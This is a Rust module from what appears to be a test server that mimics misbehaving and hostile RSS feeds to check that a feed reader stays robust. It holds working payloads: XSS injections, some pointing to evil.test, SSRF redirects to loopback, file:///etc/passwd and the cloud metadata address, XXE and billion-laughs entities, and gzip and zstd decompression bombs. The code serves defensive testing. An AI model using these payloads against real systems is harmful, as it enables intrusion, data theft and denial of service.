//! The attacks: answers instead of the document, spoiled documents, and lies on the wire. Each is one of the rows B,
//! E6, E13, P and X of the threat list; every one of them is bounded on our side too.

use crate::behaviour::Behaviour;
use crate::calendar::http_date;
use crate::dice::mix;
use crate::document::Shown;
use crate::message::{Body, Ending, Framing, Pace, Request, Response};
use crate::pages;
use crate::spec::FeedSpec;
use crate::world::World;
use bytes::Bytes;
use domain::Timestamp;
use flate2::{Compress, Compression, Crc, FlushCompress};
use std::borrow::Cow;
use std::sync::OnceLock;
use std::time::Duration;

const SPELL: Duration = Duration::from_secs(8 * 3_600);
const SPELL_EVERY: Duration = Duration::from_secs(72 * 3_600);
const DRIP_PAUSE: Duration = Duration::from_secs(1);
/// What a bomb unpacks to.
pub(crate) const BOMB_BYTES: u64 = 1 << 30;
pub(crate) const HOPS: u32 = 20;

/// What a feed with this behaviour says instead of its document, if it does.
pub(crate) fn refuse(
    world: &World,
    spec: &FeedSpec,
    request: &Request<'_>,
    now: Timestamp,
) -> Option<Response> {
    let spell = spell_end(spec, now);
    match spec.behaviour_at(now) {
        Behaviour::Moved
        | Behaviour::MovedForNow
        | Behaviour::FlipFlop
        | Behaviour::RedirectChain
        | Behaviour::RedirectLoop
        | Behaviour::RedirectPrivate
        | Behaviour::RedirectToPage => redirect(world, spec, request, now),
        Behaviour::Gone => Some(plain(410, "This feed has ended. Thank you for reading.\n")),
        Behaviour::Missing if spec.variant == 1 || spell.is_some() => Some(plain(404, "Nothing here.\n")),
        Behaviour::Broken if spec.variant == 2 || spell.is_some() => {
            Some(plain(if spec.variant == 1 { 502 } else { 500 }, "Something broke.\n"))
        }
        Behaviour::Limited => spell.map(|end| limited(spec.variant, now, end)),
        Behaviour::Unavailable => spell.map(|end| {
            let response = plain(503, "Back soon.\n");
            if spec.variant == 0 { retry_at(response, now, end) } else { response }
        }),
        Behaviour::Denied => Some(match spec.variant {
            0 => plain(401, "Who are you?\n").with("WWW-Authenticate", "Basic realm=\"subscribers\""),
            1 => plain(403, "Not for you.\n"),
            _ => plain(451, "Not in your country.\n"),
        }),
        Behaviour::Maintenance => spell.map(|_| page(200, pages::maintenance(spec))),
        Behaviour::Login => Some(page(200, pages::login(spec))),
        Behaviour::Captcha => {
            let status = if spec.variant == 0 { 200 } else { 403 };
            Some(page(status, pages::captcha(spec)).with("cf-mitigated", "challenge"))
        }
        Behaviour::Empty => Some(Response::text(200, "application/rss+xml", Bytes::new())),
        Behaviour::Bomb => Some(bomb(spec.variant)),
        Behaviour::Endless => Some(endless()),
        _ => None,
    }
}

/// What happens to a good answer on its way out.
pub(crate) fn twist(spec: &FeedSpec, mut response: Response, now: Timestamp) -> Response {
    let length = response.body.len();
    match spec.behaviour_at(now) {
        Behaviour::Drip => {
            response.pace = match spec.variant {
                0 => Pace::DripBody { pause: DRIP_PAUSE },
                _ => Pace::DripHead { pause: DRIP_PAUSE },
            };
        }
        Behaviour::Truncated if length > 0 => {
            response.framing = match spec.variant {
                0 => Framing::Length,
                1 => Framing::UntilClose,
                _ => Framing::Chunked,
            };
            response.ending = Ending::CutAfter { bytes: length / 2 };
        }
        Behaviour::LyingLength if length > 0 => {
            response.framing = Framing::Claimed(match spec.variant {
                0 => vec![claim(length.saturating_mul(10))],
                1 => vec![claim(length / 10)],
                2 => vec![Cow::Borrowed("-1")],
                _ => vec![claim(length), claim(length / 2)],
            });
        }
        Behaviour::Reset => {
            response.ending = match spec.variant {
                0 => Ending::ResetAfter { bytes: length / 2 },
                1 => Ending::ResetAfter { bytes: 0 },
                _ => Ending::ResetBeforeHead,
            };
        }
        Behaviour::HugeHeaders => huge_headers(spec.variant, &mut response),
        Behaviour::Cookies => {
            let id = mix(now.micros().unsigned_abs());
            response = response.with("Set-Cookie", format!("id={id:016x}; Path=/; Max-Age=31536000"));
        }
        _ => {}
    }
    response
}

/// Spoils the text of a document and turns it into bytes.
pub(crate) fn spoil(behaviour: Behaviour, variant: u8, text: String) -> Vec<u8> {
    match (behaviour, variant) {
        (Behaviour::BrokenXml, 0) => {
            // The second item loses an end tag and gains bare ampersands; the others stay good.
            let second = text.match_indices("<item>").nth(1).map_or(text.len(), |(at, _)| at);
            let (good, bad) = text.split_at(second);
            let bad =
                bad.replacen("</title>", " fish & chips &nbsp; <b></title>", 1).replacen("</link>", "", 1);
            format!("{good}{bad}").into_bytes()
        }
        (Behaviour::BrokenXml, 1) => {
            let mut bytes = text.into_bytes();
            bytes.truncate(bytes.len() * 2 / 3);
            bytes
        }
        (Behaviour::BrokenXml, _) => format!("\n\n<!-- cached -->\n<br/>\n{text}").into_bytes(),
        (Behaviour::Latin1, variant) => {
            let declared = if variant == 0 { text.replacen(" encoding=\"utf-8\"", "", 1) } else { text };
            declared.chars().map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?')).collect()
        }
        (Behaviour::Entities, variant) => with_entities(&text, variant).into_bytes(),
        (Behaviour::Deep, _) => {
            const DEPTH: usize = 20_000;
            let nest = format!("{}deep{}", "<div>".repeat(DEPTH), "</div>".repeat(DEPTH));
            text.replacen("<![CDATA[", &format!("<![CDATA[{nest}"), 1)
                .replacen(
                    "<channel>",
                    &format!("<channel>{}{}", "<x>".repeat(DEPTH), "</x>".repeat(DEPTH)),
                    1,
                )
                .into_bytes()
        }
        _ => text.into_bytes(),
    }
}

/// Scripts in every field that a careless reader might show as HTML (rows X1 to X9).
pub(crate) fn script(shown: &mut Shown, number: u64) {
    const BODIES: [&str; 8] = [
        "<script>document.title='owned'</script>",
        "<img src=x onerror=\"document.title='owned'\">",
        "<svg><set attributeName=href to=javascript:alert(1)></svg>",
        "<iframe srcdoc=\"&lt;script&gt;parent.document.title='owned'&lt;/script&gt;\"></iframe>",
        "<form action=\"/logout\" method=post><button formaction=\"/account/delete\">More</button></form>",
        "<div style=\"position:fixed;inset:0;background:url(//tracker.test/x)\">over everything</div>",
        "<a href=\"java\tscript:alert(1)\">a link</a> <a href=\"/feeds/1/delete\">another</a>",
        "<base href=\"//evil.test/\"><meta http-equiv=refresh content=\"0;url=//evil.test/\">",
    ];
    let body = BODIES[(number % 8) as usize];
    shown.title = format!("{} <img src=x onerror=alert(1)>", shown.title);
    shown.author = format!("{} <script>alert(1)</script>", shown.author);
    shown.html = Some(format!("{body}{}", shown.html.as_deref().unwrap_or("<p>Nothing else.</p>")));
}

/// When the spell the feed is in ends; `None` between spells. Spells begin at the onset.
pub(crate) fn spell_end(spec: &FeedSpec, now: Timestamp) -> Option<Timestamp> {
    let into = now.since(spec.onset).as_micros() % SPELL_EVERY.as_micros();
    let left = SPELL.as_micros().checked_sub(into).filter(|&left| left > 0)?;
    (now >= spec.onset).then(|| now.saturating_add(Duration::from_micros(u64::try_from(left).unwrap_or(0))))
}

fn redirect(world: &World, spec: &FeedSpec, request: &Request<'_>, now: Timestamp) -> Option<Response> {
    let (name, path) = (request.host_name(), request.path_only());
    let moved = |suffix: &str| {
        let host = spec.host.replacen(".test", &format!("-{suffix}.test"), 1);
        format!("http://{}{}", world.authority(&host), spec.url_path)
    };
    let here = format!("http://{}", world.authority(&spec.host));
    let elsewhere = name != spec.host;
    match spec.behaviour {
        Behaviour::Moved if !elsewhere => {
            Some(Response::redirect(if spec.variant == 0 { 301 } else { 308 }, moved("new")))
        }
        Behaviour::MovedForNow if !elsewhere => {
            let status = [302, 303, 307].get(usize::from(spec.variant)).copied().unwrap_or(302);
            Some(Response::redirect(status, moved("new")))
        }
        Behaviour::FlipFlop if !elsewhere => {
            let even = now.seconds().div_euclid(86_400) % 2 == 0;
            Some(Response::redirect(301, moved(if even { "a" } else { "b" })))
        }
        Behaviour::RedirectChain => {
            let hop = path.rsplit_once("/hop/").and_then(|(_, n)| n.parse::<u32>().ok()).unwrap_or(0);
            (hop < HOPS).then(|| Response::redirect(302, format!("{here}{}/hop/{}", spec.prefix, hop + 1)))
        }
        Behaviour::RedirectLoop if spec.variant == 0 => {
            let at_feed = path == spec.url_path;
            let to = if at_feed {
                format!("{here}{}/loop", spec.prefix)
            } else {
                format!("{here}{}", spec.url_path)
            };
            Some(Response::redirect(302, to))
        }
        Behaviour::RedirectLoop => {
            let query: String =
                request.path.split_once('?').map_or("", |(_, query)| query).chars().take(4_000).collect();
            Some(Response::redirect(302, format!("{here}{}?{query}&again=1", spec.url_path)))
        }
        Behaviour::RedirectPrivate => {
            const TARGETS: [&str; 7] = [
                "http://127.0.0.1/",
                "http://2130706433/",
                "file:///etc/passwd",
                "gopher://x:70/_",
                "ftp://x/",
                "//[::1]/",
                "http://169.254.169.254/latest/meta-data/",
            ];
            Some(Response::redirect(302, TARGETS[usize::from(spec.variant) % TARGETS.len()]))
        }
        Behaviour::RedirectToPage if path == spec.url_path => {
            Some(Response::redirect(301, format!("{here}{}/", spec.prefix)))
        }
        _ => None,
    }
}

fn limited(variant: u8, now: Timestamp, end: Timestamp) -> Response {
    let response = plain(429, "Slow down, please.\n");
    match variant {
        0 => retry_at(response, now, end),
        1 => {
            let mut response = response.with("Retry-After", http_date(end));
            response.retry_at = Some(end);
            response
        }
        2 => response.with("Retry-After", http_date(now.saturating_sub(SPELL))),
        3 => response.with("Retry-After", "-5"),
        4 => {
            let mut response = response.with("Retry-After", "1000000000");
            // Nobody need wait thirty years: a month is what politeness asks at most (N13).
            response.retry_at = Some(now.saturating_add(Duration::from_secs(30 * 86_400)));
            response
        }
        5 => response.with("Retry-After", "soon"),
        _ => response,
    }
}

fn retry_at(response: Response, now: Timestamp, end: Timestamp) -> Response {
    let seconds = end.since(now).as_secs().max(1);
    let mut response = response.with("Retry-After", seconds.to_string());
    response.retry_at = Some(now.saturating_add(Duration::from_secs(seconds)));
    response
}

fn huge_headers(variant: u8, response: &mut Response) {
    match variant {
        0 => response
            .headers
            .push((Cow::Borrowed("Set-Cookie"), Cow::Owned("c=".to_owned() + &"x".repeat(10 << 20)))),
        1 => {
            let many = (0..10_000).map(|n| (Cow::Owned(format!("X-Padding-{n}")), Cow::Borrowed("y")));
            response.headers.extend(many);
        }
        _ => {
            response.headers.retain(|(name, _)| name != "ETag");
            response
                .headers
                .push((Cow::Borrowed("ETag"), Cow::Owned(format!("\"{}\"", "e".repeat(1 << 20)))));
        }
    }
}

fn with_entities(text: &str, variant: u8) -> String {
    let mut dtd = String::from("<!DOCTYPE rss [\n");
    if variant == 0 {
        dtd.push_str("<!ENTITY lol0 \"lol\">\n");
        for level in 1..10 {
            let inner = format!("&lol{};", level - 1).repeat(10);
            dtd.push_str(&format!("<!ENTITY lol{level} \"{inner}\">\n"));
        }
        dtd.push_str("]>\n");
        text.replacen("<rss", &format!("{dtd}<rss"), 1).replacen("<description>", "<description>&lol9;", 2)
    } else {
        dtd.push_str("<!ENTITY x SYSTEM \"file:///etc/passwd\">\n]>\n");
        text.replacen("<rss", &format!("{dtd}<rss"), 1).replacen("<description>", "<description>&x;", 2)
    }
}

fn endless() -> Response {
    let mut response = Response::new(200).with("Content-Type", "application/rss+xml");
    response.framing = Framing::Chunked;
    response.body = Body::Repeated {
        head: Bytes::from_static(
            b"<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Without end</title>\n",
        ),
        unit: Bytes::from("<item><title>and another</title><guid>x</guid></item>\n".repeat(64)),
        times: u64::MAX >> 20,
        tail: Bytes::new(),
    };
    response
}

fn bomb(variant: u8) -> Response {
    let response = Response::new(200).with("Content-Type", "application/rss+xml");
    let (encoding, body) = match variant {
        0 => ("gzip", gzip_bomb()),
        1 => ("zstd", zstd_bomb()),
        _ => ("gzip, gzip, gzip", nested_bomb()),
    };
    let mut response = response.with("Content-Encoding", encoding);
    response.body = body;
    response
}

/// One deflate block of a mebibyte of zeros, ended by a full flush: byte-aligned and without a look back, so that it
/// may be sent any number of times within one gzip member.
fn zero_block() -> &'static Bytes {
    static BLOCK: OnceLock<Bytes> = OnceLock::new();
    BLOCK.get_or_init(|| {
        let mut deflate = Compress::new(Compression::best(), false);
        let mut out = Vec::with_capacity(64 << 10);
        let _ = deflate.compress_vec(&vec![0; 1 << 20], &mut out, FlushCompress::Full);
        out.into()
    })
}

fn gzip_bomb() -> Body {
    let times = BOMB_BYTES >> 20;
    let mebibyte = {
        let mut crc = Crc::new();
        crc.update(&vec![0; 1 << 20]);
        crc
    };
    let mut crc = Crc::new();
    for _ in 0..times {
        crc.combine(&mebibyte);
    }
    // An empty final block, then the checksum and the length modulo 2³² (RFC 1952 §2.3.1).
    let mut tail = vec![0x03, 0x00];
    tail.extend_from_slice(&crc.sum().to_le_bytes());
    tail.extend_from_slice(&((BOMB_BYTES & 0xffff_ffff) as u32).to_le_bytes());
    Body::Repeated {
        head: Bytes::from_static(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]),
        unit: zero_block().clone(),
        times,
        tail: tail.into(),
    }
}

/// Blocks of run-length type (RFC 8878 §3.1.1.2): four bytes for 128 KiB.
fn zstd_bomb() -> Body {
    const BLOCK: u32 = 128 << 10;
    let header = |last: u32| {
        let [a, b, c, _] = (BLOCK << 3 | 1 << 1 | last).to_le_bytes();
        [a, b, c, 0]
    };
    Body::Repeated {
        // Magic number, no content size, no checksum, a window of 128 KiB.
        head: Bytes::from_static(&[0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38]),
        unit: Bytes::copy_from_slice(&header(0)),
        times: BOMB_BYTES / u64::from(BLOCK) - 1,
        tail: Bytes::copy_from_slice(&header(1)),
    }
}

fn nested_bomb() -> Body {
    static NESTED: OnceLock<Bytes> = OnceLock::new();
    let nested = NESTED.get_or_init(|| {
        let Body::Repeated { head, unit, times, tail } = gzip_bomb() else { return Bytes::new() };
        let mut inner = head.to_vec();
        inner.extend(unit.repeat(usize::try_from(times).unwrap_or(0)));
        inner.extend_from_slice(&tail);
        crate::world::compress(&crate::world::compress(&inner)).into()
    });
    Body::Whole(nested.clone())
}

fn plain(status: u16, text: &'static str) -> Response {
    Response::text(status, "text/plain; charset=utf-8", text.as_bytes())
}

fn page(status: u16, html: String) -> Response {
    Response::text(status, "text/html; charset=utf-8", html)
}

fn claim(length: u64) -> Cow<'static, str> {
    Cow::Owned(length.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::read::GzDecoder;
    use std::io::Read;

    #[test]
    fn the_bomb_is_one_valid_gzip_member_of_a_gibibyte() {
        let Body::Repeated { head, unit, tail, .. } = gzip_bomb() else { panic!("repeated") };
        let wire = gzip_bomb().len();
        assert!(wire * 200 < BOMB_BYTES, "{wire} bytes is no bomb");
        // Three blocks instead of a thousand, read back; the checksum belongs to the whole.
        let three = [&head[..], &unit.repeat(3), &tail].concat();
        let mut out = Vec::new();
        let _ = GzDecoder::new(&three[..]).take(4 << 20).read_to_end(&mut out);
        assert_eq!(out.len(), 3 << 20);
        assert!(out.iter().all(|&byte| byte == 0));
    }
}
